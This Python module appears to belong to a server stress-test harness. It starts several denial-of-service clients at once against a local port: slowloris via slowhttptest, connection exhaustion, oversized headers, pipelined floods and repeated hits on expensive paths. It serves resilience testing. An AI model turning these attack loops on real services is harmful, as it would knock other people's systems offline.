"""Clients that mean harm, each kind a process of its own, all against one port at once."""

import contextlib
import multiprocessing
import os
import signal
import socket
import subprocess
import threading
import time

from .servers import place

SLOW = "slowhttptest"
HEAD = "GET {} HTTP/1.1\r\nHost: bench\r\n"


def request(port, path, patience=5.0):
    """Asks once; what comes of it does not matter to an attacker."""
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), patience) as stream:
        stream.sendall((HEAD.format(path) + "Connection: close\r\n\r\n").encode())
        while stream.recv(65536):
            pass


def asking(path, clients):
    """Several clients that ask for what hurts, again and again."""

    def attack(port):
        def client():
            while True:
                request(port, path)
                time.sleep(0.001)

        threads = [threading.Thread(target=client, daemon=True) for _ in range(clients)]
        for thread in threads:
            thread.start()
        threads[0].join()

    return attack


def descriptors(port):
    """Connections that say nothing, as many as can be had."""
    held = []
    while True:
        try:
            held.append(socket.create_connection(("127.0.0.1", port), 1))
        except OSError:
            held.clear()
        if len(held) >= 800:
            held.clear()
        time.sleep(0.002)


def big_headers(port):
    field = ("x-big: " + "x" * 8000 + "\r\n").encode()
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as stream:
            stream.sendall(HEAD.format("/").encode())
            for _ in range(200):
                stream.sendall(field)
        time.sleep(0.005)


def slowloris(port):
    """Heads that come a line at a time and never end: what `slowhttptest -H` is for."""
    url = f"http://127.0.0.1:{port}/"
    options = {"-c": 200, "-r": 100, "-i": 1, "-x": 24, "-l": 3600, "-u": url}
    words = [str(word) for option in options.items() for word in option]
    # It ends when the server has closed all its connections.
    while True:
        subprocess.run([SLOW, "-H", *words], stdin=subprocess.DEVNULL, capture_output=True)
        time.sleep(0.1)


def flood(port):
    """Requests without a pause on a few connections, pipelined."""
    many = (HEAD.format("/") + "\r\n").encode() * 16
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 2) as stream:
            while True:
                stream.sendall(many)
                if not stream.recv(65536):
                    break


KINDS = {
    "spin": asking("/spin", 4),
    "grow": asking("/grow", 2),
    "recursion": asking("/recurse", 2),
    "descriptors": descriptors,
    "big headers": big_headers,
    "slowloris": slowloris,
    "flood": flood,
}


class Attackers:
    """All of them, on the load's CPU, for as long as the context lasts."""

    def __init__(self, settings, port):
        settings.program(SLOW)
        self.settings, self.port = settings, port

    def __enter__(self):
        context = multiprocessing.get_context("fork")
        self.processes = []
        for attack in KINDS.values():
            process = context.Process(target=self.run, args=(attack,), daemon=True)
            process.start()
            self.processes.append(process)
        return self

    def run(self, attack):
        os.setsid()
        place(self.settings.load_cpus, self.settings)
        attack(self.port)

    def __exit__(self, *unused):
        for process in self.processes:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.kill()
            process.join()
